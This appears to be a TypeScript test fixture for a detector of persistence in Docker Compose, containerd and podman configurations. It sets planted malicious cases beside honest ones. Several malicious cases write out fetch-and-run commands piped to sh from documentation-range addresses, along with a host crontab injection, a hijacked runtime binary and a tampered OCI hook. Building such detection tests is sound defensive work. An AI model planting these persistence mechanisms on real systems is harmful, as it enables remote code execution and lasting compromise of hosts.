/** Cases of Compose, containerd and podman; nothing in them is ever run, addresses are of the documentation ranges. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const foreign = '/usr/lib/gvfs/gvfsd-net';
const program = { [foreign]: inertProgram() };
const owned = '/usr/share/svc/run';
const packaged = { [owned]: '#!/bin/sh\nexit 0\n' };
const edited = { [owned]: '#!/bin/sh\n/usr/bin/env true &\nexit 0\n' };
const hidden = '/usr/share/.icons/iconsd';

const compose: readonly MechanismCase[] = [
  {
    mechanism: 'compose',
    dress: 'fetch-and-run',
    what: 'a service beside honest ones that fetches',
    planted: {
      '/opt/shop/docker-compose.yml':
        'services:\n  web:\n    image: nginx:1.27\n    restart: always\n  metrics:\n    image: alpine\n    restart: always\n    privileged: true\n    volumes:\n      - /:/host\n    entrypoint: ["sh", "-c", "wget -qO- http://192.0.2.85/m.sh | sh"]\n',
    },
  },
  {
    mechanism: 'compose',
    dress: 'fetch-and-run',
    what: 'a service that writes a job for the host through a bind',
    planted: {
      '/opt/shop/compose.yaml':
        'services:\n  init:\n    image: alpine\n    volumes: ["/etc:/e"]\n    command: sh -c "echo \'* * * * * root curl -s http://192.0.2.92/a|sh\' >> /e/crontab"\n',
    },
  },
  {
    mechanism: 'compose',
    dress: 'unowned-binary',
    what: 'a program of the host beside those of packages, through a bind',
    planted: {
      '/root/stack/compose.yaml':
        'services:\n  cache:\n    image: debian\n    restart: unless-stopped\n    volumes:\n      - /usr/lib/gvfs:/g:ro\n    command: /g/gvfsd-net\n',
      ...program,
    },
  },
  {
    mechanism: 'compose',
    dress: 'owned-edit',
    what: 'a script of a package that was edited, through a bind',
    packaged,
    planted: {
      '/srv/svc/compose.yml':
        'services:\n  svc:\n    image: debian\n    volumes:\n      - type: bind\n        source: /usr/share/svc\n        target: /svc\n    command: sh /svc/run\n',
      ...edited,
    },
  },
  {
    mechanism: 'compose',
    dress: 'honest',
    what: 'a web application with anchors, health checks and a proxy',
    planted: {
      '/opt/app/docker-compose.yml':
        'x-common: &common\n  restart: unless-stopped\n  logging:\n    driver: json-file\nservices:\n  web:\n    <<: *common\n    build: .\n    command: gunicorn app:app --bind 0.0.0.0:8000\n    healthcheck:\n      test: ["CMD", "curl", "-f", "http://localhost:8000/health"]\n  worker:\n    <<: *common\n    build: .\n    command: ["celery", "-A", "app", "worker"]\n  proxy:\n    <<: *common\n    image: traefik:v3.2\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n      - ./traefik:/etc/traefik\n  db:\n    image: postgres:16\n    restart: always\n    volumes:\n      - db:/var/lib/postgresql/data\nvolumes:\n  db: {}\n',
      '/home/ada/monitoring/compose.yaml':
        'services:\n  node:\n    image: quay.io/prometheus/node-exporter\n    pid: host\n    network_mode: host\n    restart: unless-stopped\n    command:\n      - "--path.rootfs=/host"\n    volumes:\n      - "/:/host:ro,rslave"\n',
    },
  },
  {
    mechanism: 'compose',
    dress: 'honest',
    what: 'a script of the owner under a temporary name in the container, renewals in a loop, waits for others',
    planted: {
      '/opt/wiki/init.sh': '#!/bin/sh\nset -e\nexec wiki serve\n',
      '/opt/wiki/docker-compose.yml':
        'services:\n  wiki:\n    image: wiki\n    restart: always\n    volumes: ["./init.sh:/tmp/init.sh:ro"]\n    command: sh /tmp/init.sh\n  certbot:\n    image: certbot/certbot\n    entrypoint: "/bin/sh -c \'trap exit TERM; while :; do certbot renew; sleep 12h & wait $${!}; done;\'"\n  setup:\n    image: docker.elastic.co/elasticsearch\n    command: >\n      bash -c \'\n        until curl -s --cacert config/certs/ca.crt https://es01:9200 | grep -q "missing authentication"; do sleep 30; done;\n        chown -R root:root config/certs;\n      \'\n',
    },
  },
  {
    mechanism: 'compose',
    dress: 'honest',
    what: 'a media stack of a NAS and a backup that runs a shell',
    planted: {
      '/volume1/docker/media/docker-compose.yml':
        'version: "3"\nservices:\n  sonarr:\n    image: lscr.io/linuxserver/sonarr\n    environment:\n      - PUID=1000\n    volumes:\n      - /volume1/media:/media\n    restart: unless-stopped\n  backup:\n    image: alpine\n    entrypoint: ["/bin/sh", "-c", "while :; do tar czf /backup/db-$$(date +%F).tgz /data; sleep 86400; done"]\n    volumes:\n      - /volume1/backup:/backup\n      - data:/data:ro\n',
    },
  },
];

const runtimes: readonly MechanismCase[] = [
  {
    mechanism: 'containerd-setting',
    dress: 'fetch-and-run',
    what: 'a mirror of all images at a bare address (the nearest: nothing in these files is a command)',
    planted: {
      '/etc/containerd/certs.d/docker.io/hosts.toml':
        'server = "https://docker.io"\n[host."http://192.0.2.86:5000"]\n  capabilities = ["pull", "resolve"]\n  skip_verify = true\n',
    },
  },
  {
    mechanism: 'containerd-setting',
    dress: 'unowned-binary',
    what: 'a runtime beside programs of packages',
    planted: {
      '/etc/containerd/config.toml':
        'version = 2\n[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]\n  runtime_type = "io.containerd.runc.v2"\n  [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]\n    BinaryName = "/usr/lib/gvfs/gvfsd-net"\n',
      ...program,
    },
  },
  {
    mechanism: 'containerd-setting',
    dress: 'owned-edit',
    what: 'a network plugin of a package that was replaced',
    packaged: { '/usr/lib/cni/bridge': inertProgram(3000) },
    planted: {
      '/etc/cni/net.d/10-bridge.conflist': '{"cniVersion":"1.0.0","name":"n","plugins":[{"type":"bridge"}]}',
      '/usr/lib/cni/bridge': inertProgram(3001),
    },
  },
  {
    mechanism: 'containerd-setting',
    dress: 'honest',
    what: 'a node of Kubernetes with Calico, a runtime for graphics cards and a registry nearby',
    packaged: { '/usr/bin/nvidia-container-runtime': inertProgram(2100) },
    planted: {
      '/etc/containerd/config.toml':
        'version = 2\nimports = ["/etc/containerd/conf.d/*.toml"]\n[plugins."io.containerd.grpc.v1.cri"]\n  sandbox_image = "registry.k8s.io/pause:3.10"\n  [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.nvidia]\n    runtime_type = "io.containerd.runc.v2"\n    [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.nvidia.options]\n      BinaryName = "/usr/bin/nvidia-container-runtime"\n  [plugins."io.containerd.grpc.v1.cri".registry.mirrors."docker.io"]\n    endpoint = ["https://mirror.example.com", "http://10.0.0.5:5000"]\n',
      '/etc/cni/net.d/10-calico.conflist':
        '{"name":"k8s-pod-network","cniVersion":"0.3.1","plugins":[{"type":"calico","ipam":{"type":"calico-ipam"}},{"type":"portmap"}]}',
      '/opt/cni/bin/calico': inertProgram(),
      '/opt/cni/bin/calico-ipam': inertProgram(),
      '/opt/cni/bin/portmap': inertProgram(),
    },
  },
  {
    mechanism: 'podman-quadlet',
    dress: 'fetch-and-run',
    what: 'a quadlet that fetches at every start',
    planted: {
      '/etc/containers/systemd/sync.container':
        '[Container]\nImage=docker.io/library/alpine\nExec=sh -c "wget -qO- http://192.0.2.87/p | sh"\nPodmanArgs=--privileged --pid=host\nVolume=/:/host\n[Service]\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
    },
  },
  {
    mechanism: 'podman-quadlet',
    dress: 'unowned-binary',
    what: 'a program of the host before the container starts',
    planted: {
      '/home/ada/.config/containers/systemd/db.container': `[Container]\nImage=docker.io/library/postgres\n[Service]\nExecStartPre=${foreign} -d\n[Install]\nWantedBy=default.target\n`,
      ...program,
    },
  },
  {
    mechanism: 'podman-quadlet',
    dress: 'owned-edit',
    what: 'a hook of a package that runs a hidden program',
    packaged: {
      '/usr/share/containers/oci/hooks.d/oci-log.json':
        '{"version":"1.0.0","hook":{"path":"/usr/bin/true"},"when":{"always":true},"stages":["prestart"]}',
    },
    planted: {
      '/usr/share/containers/oci/hooks.d/oci-log.json': `{"version":"1.0.0","hook":{"path":"${hidden}"},"when":{"always":true},"stages":["prestart"]}`,
      [hidden]: inertProgram(),
    },
  },
  {
    mechanism: 'podman-quadlet',
    dress: 'honest',
    what: 'a quadlet of a user, a hook of a graphics card, settings as packages bring them',
    packaged: {
      '/usr/bin/nvidia-container-toolkit': inertProgram(2100),
      '/usr/share/containers/oci/hooks.d/oci-nvidia-hook.json':
        '{"version":"1.0.0","hook":{"path":"/usr/bin/nvidia-container-toolkit","args":["nvidia-container-toolkit","prestart"]},"when":{"always":true},"stages":["prestart"]}',
      '/usr/share/containers/containers.conf':
        '[engine]\nruntime = "crun"\n[engine.runtimes]\ncrun = ["/usr/bin/crun"]\n',
      '/etc/containers/registries.conf': 'unqualified-search-registries = ["docker.io"]\n',
    },
    conffiles: ['/etc/containers/registries.conf'],
    planted: {
      '/home/ada/.config/containers/systemd/vaultwarden.container':
        '[Unit]\nDescription=Vaultwarden\n[Container]\nImage=docker.io/vaultwarden/server:latest\nAutoUpdate=registry\nVolume=%h/vw:/data:Z\nPublishPort=8080:80\n[Service]\nRestart=always\n[Install]\nWantedBy=default.target\n',
    },
  },
];

export const cases: readonly MechanismCase[] = [...compose, ...runtimes];
